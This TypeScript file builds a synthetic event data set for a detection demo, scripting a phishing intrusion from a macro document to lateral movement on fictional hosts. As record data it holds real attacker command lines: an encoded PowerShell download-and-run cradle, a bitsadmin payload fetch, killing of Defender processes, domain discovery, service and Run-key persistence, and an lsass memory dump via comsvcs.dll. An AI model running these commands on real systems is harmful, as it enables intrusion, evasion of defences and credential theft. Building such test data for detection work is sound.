import { createRandom } from '../random.js';
import type { NativeRecord } from './story-types.js';
import { minute } from './story-types.js';
import {
  createRecorder,
  host,
  shuffleNearby,
  type BootedHost,
  type Process,
  type Recorder,
} from './recorder.js';

export type { NativeRecord } from './story-types.js';

/**
 * The demo data set: a phishing intrusion on a small network, written as native event
 * records (docs/ingest.md) the way an agent would send them. Pure: the time and the seed
 * come in, the same inputs give the same records.
 *
 * The story, on FIN-WS-014 (a finance workstation) and FILE-SRV-02:
 * 1. j.doe opens Invoice_2291.docm; WINWORD.EXE starts cmd.exe, which downloads a script
 *    with bitsadmin and runs PowerShell with an encoded command.
 * 2. The PowerShell implant opens a Cobalt Strike style named pipe, beacons to
 *    203.0.113.45:443 every minute, and persists under a Run key.
 * 3. It kills security tools with a burst of taskkill and runs discovery commands.
 * 4. It moves to FILE-SRV-02 over WinRM (port 5985): wsmprovhost.exe starts PowerShell,
 *    which installs a service with sc.exe and dumps lsass with comsvcs.dll.
 * Around it, ordinary activity on four hosts: browsers, Teams, updates, searches.
 */

export interface DemoStoryOptions {
  /** The end of the story (ms since the epoch); events span the two hours before it. */
  now: number;
  seed?: number;
}

/** The demo network's hosts. */
export const demoHosts = {
  finance: host('FIN-WS-014', '10.20.1.14', 'CORP\\j.doe'),
  finance2: host('FIN-WS-022', '10.20.1.22', 'CORP\\m.kowalski'),
  fileServer: host('FILE-SRV-02', '10.20.5.12', 'NT AUTHORITY\\SYSTEM'),
  domainController: host('DC-01', '10.20.0.10', 'NT AUTHORITY\\SYSTEM'),
};

const encodedCommand = Buffer.from(
  "$c=New-Object Net.WebClient;IEX $c.DownloadString('http://cdn-updates.example.net/stage2')",
  'utf16le',
).toString('base64');

export interface DemoStory {
  /** The records, in the order an agent fleet would deliver them (not time order). */
  records: NativeRecord[];
  /** The PowerShell implant, still running at the end: the live feed continues it. */
  implant: Process;
}

/** The demo story ending at `options.now`. */
export function createDemoStory(options: DemoStoryOptions): DemoStory {
  const random = createRandom(options.seed ?? 2291);
  const start = options.now - 120 * minute;
  const records: NativeRecord[] = [];
  const story = createRecorder(records, random);

  const booted = Object.values(demoHosts).map((h) =>
    story.bootProcesses(h, start - 3 * 24 * 60 * minute),
  );
  for (const system of booted) story.background(system, start, options.now);

  const [financeBoot, , serverBoot] = booted;
  const implant = attack(story, financeBoot!, serverBoot!, start + 40 * minute, options.now);

  // Agents batch and retry: deliveries interleave across hosts and arrive out of order.
  return { records: shuffleNearby(records, random, 12), implant };
}

/**
 * What the implant does in the minute that starts at `at`, after the story: a beacon, and
 * every fifth minute a hidden PowerShell child (which the demo rules alert on).
 */
export function continueDemoStory(implant: Process, at: number, tick: number): NativeRecord[] {
  const records: NativeRecord[] = [];
  const story = createRecorder(records, createRandom(tick + 7919), {
    firstGuid: 0x10000 + tick * 4,
  });

  story.connect(implant, at, '203.0.113.45', 443, 'sync.example.org');
  if (tick % 5 === 4) {
    const child = story.start(
      implant,
      at + 2_000,
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      `powershell -nop -w hidden -enc ${encodedCommand}`,
    );
    story.stop(child, at + 9_000);
  }
  return records;
}

function attack(
  story: Recorder,
  finance: BootedHost,
  server: BootedHost,
  t0: number,
  now: number,
): Process {
  const word = story.start(
    finance.explorer,
    t0,
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\j.doe\\Downloads\\Invoice_2291.docm" /o ""',
  );
  story.file(word, t0 + 4_000, 'C:\\Users\\j.doe\\Downloads\\Invoice_2291.docm');

  const temp = 'C:\\Users\\j.doe\\AppData\\Local\\Temp';
  const cmd = story.start(
    word,
    t0 + 61_000,
    'C:\\Windows\\System32\\cmd.exe',
    `cmd.exe /c bitsadmin /transfer update /download /priority high http://cdn-updates.example.net/agent.ps1 ${temp}\\agent.ps1 & powershell -nop -w hidden -enc ${encodedCommand}`,
  );
  const bits = story.start(
    cmd,
    t0 + 62_000,
    'C:\\Windows\\System32\\bitsadmin.exe',
    `bitsadmin /transfer update /download /priority high http://cdn-updates.example.net/agent.ps1 ${temp}\\agent.ps1`,
  );
  story.dns(bits, t0 + 62_400, 'cdn-updates.example.net', '198.51.100.23');
  story.connect(bits, t0 + 62_500, '198.51.100.23', 80, 'cdn-updates.example.net');
  story.file(finance.bitsService, t0 + 64_000, `${temp}\\agent.ps1`);
  story.stop(bits, t0 + 65_000);

  const implant = story.start(
    cmd,
    t0 + 66_000,
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    `powershell -nop -w hidden -enc ${encodedCommand}`,
  );
  story.stop(cmd, t0 + 67_000);
  story.stop(word, t0 + 9 * minute);

  story.pipe(implant, t0 + 70_000, `\\MSSE-${implant.pid}-server`);
  story.registry(
    implant,
    t0 + 75_000,
    'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate',
    `powershell -w hidden -f ${temp}\\agent.ps1`,
  );

  for (let at = t0 + 80_000; at < now - minute; at += minute + story.jitter(4_000)) {
    story.connect(implant, at, '203.0.113.45', 443, 'sync.example.org');
  }

  const killer = story.start(
    implant,
    t0 + 5 * minute,
    'C:\\Windows\\System32\\cmd.exe',
    'cmd.exe /c "for %p in (MsMpEng SecurityHealthService MpCmdRun smartscreen) do taskkill /f /im %p.exe"',
  );
  ['MsMpEng', 'SecurityHealthService', 'MpCmdRun', 'smartscreen'].forEach((name, i) => {
    const at = t0 + 5 * minute + 2_000 + i * 20_000;
    const kill = story.start(
      killer,
      at,
      'C:\\Windows\\System32\\taskkill.exe',
      `taskkill /f /im ${name}.exe`,
    );
    story.stop(kill, at + 300);
  });
  story.stop(killer, t0 + 7 * minute);

  const discovery = [
    'whoami /all',
    'net group "domain admins" /domain',
    'nltest /dclist:corp.example.com',
  ];
  discovery.forEach((line, i) => {
    const image = `C:\\Windows\\System32\\${line.split(' ')[0]}.exe`;
    const child = story.start(implant, t0 + 12 * minute + i * 45_000, image, line);
    story.stop(child, t0 + 12 * minute + i * 45_000 + 800);
  });

  // Lateral movement: PowerShell remoting to the file server.
  const lateralAt = t0 + 25 * minute;
  story.connect(implant, lateralAt, demoHosts.fileServer.ip, 5985, 'file-srv-02.corp.example.com');
  const wsmprov = story.start(
    server.svchost,
    lateralAt + 900,
    'C:\\Windows\\System32\\wsmprovhost.exe',
    'C:\\Windows\\system32\\wsmprovhost.exe -Embedding',
  );
  story.accept(wsmprov, lateralAt + 950, demoHosts.finance.ip, 5985);
  const remote = story.start(
    wsmprov,
    lateralAt + 2_000,
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -NoLogo -NonInteractive -ep bypass',
  );
  story.file(remote, lateralAt + 20_000, 'C:\\Windows\\Temp\\svc.ps1');
  const sc = story.start(
    remote,
    lateralAt + 40_000,
    'C:\\Windows\\System32\\sc.exe',
    'sc.exe create UpdateOrchestratorSvc binPath= "powershell -w hidden -f C:\\Windows\\Temp\\svc.ps1" start= auto',
  );
  story.stop(sc, lateralAt + 41_000);
  story.registry(
    sc,
    lateralAt + 40_500,
    'HKLM\\System\\CurrentControlSet\\Services\\UpdateOrchestratorSvc\\ImagePath',
    'powershell -w hidden -f C:\\Windows\\Temp\\svc.ps1',
  );

  const dumpAt = lateralAt + 4 * minute;
  const dump = story.start(
    remote,
    dumpAt,
    'C:\\Windows\\System32\\rundll32.exe',
    `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${server.lsass.pid} C:\\Windows\\Temp\\lsass.dmp full`,
  );
  story.file(dump, dumpAt + 3_000, 'C:\\Windows\\Temp\\lsass.dmp');
  story.stop(dump, dumpAt + 4_000);
  return implant;
}
